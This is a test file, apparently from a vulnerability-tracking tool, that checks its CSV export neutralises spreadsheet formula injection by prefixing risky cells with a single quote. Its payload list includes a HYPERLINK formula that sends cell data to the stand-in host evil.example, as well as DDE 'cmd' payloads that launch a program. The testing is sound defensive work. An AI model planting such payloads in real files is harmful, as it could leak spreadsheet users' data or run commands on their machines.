/**
 * The CSV export opened in a spreadsheet must not run formulas a reporter or a source put in a title or a vendor
 * name (OWASP CSV injection): text cells starting with = + - @ tab or CR get a leading single quote; numeric
 * columns stay numbers, negative ones included.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Database } from '../db/client.js';
import { importItems } from '../imports/pipeline.js';
import { freshDatabase, testBackends } from '../test-support/db.js';
import { cveRecord, itemsOf } from '../test-support/factories.js';
import { csvCell, exportCsv } from './export-csv.js';

const PAYLOADS = [
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A0",
  '+1+2',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
];

describe.each(testBackends())('CSV export on %s', (backend) => {
  let d: Database;
  beforeAll(async () => {
    d = await freshDatabase(backend);
    const recs = PAYLOADS.map((p, i) =>
      cveRecord(`CVE-2024-${String(1000 + i)}`, {
        titleEn: p,
        products: [{ vendor: p, product: 'AC18', versions: [] }],
      }),
    );
    await importItems(d, itemsOf(recs), { format: 'test', paths: [] });
  });
  afterAll(async () => {
    await d.close();
  });

  it('neutralises formula payloads in titles and vendors with a leading single quote', async () => {
    let text = '';
    for await (const chunk of exportCsv(d.db, {})) text += chunk;
    const rows = parse<Record<string, string>>(text, { columns: true, bom: true });
    expect(rows).toHaveLength(PAYLOADS.length);
    const byTitle = new Map(rows.map((r) => [r.title_en, r]));
    for (const p of PAYLOADS) {
      const row = byTitle.get(`'${p}`);
      expect(row, p).toBeDefined();
      expect(row?.vendors, p).toBe(`'${p}`);
    }
    for (const r of rows)
      for (const [col, v] of Object.entries(r))
        expect(/^[=+\-@\t\r]/.test(v), `${col}: ${JSON.stringify(v)}`).toBe(false);
    expect(rows.every((r) => /^\d+(\.\d+)?$/.test(r.score ?? ''))).toBe(true);
  });
});

describe('CSV cells', () => {
  it('writes numbers as numbers, negative ones too, and neutralises text that looks like a formula', () => {
    expect(csvCell(-1.5)).toBe(-1.5);
    expect(csvCell(9.8)).toBe(9.8);
    expect(csvCell('-1.5')).toBe("'-1.5");
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('CVE-2024-1234')).toBe('CVE-2024-1234');
    expect(csvCell('Tenda; =HYPERLINK("x")')).toBe('Tenda; =HYPERLINK("x")');
    expect(csvCell('')).toBe('');
  });
});
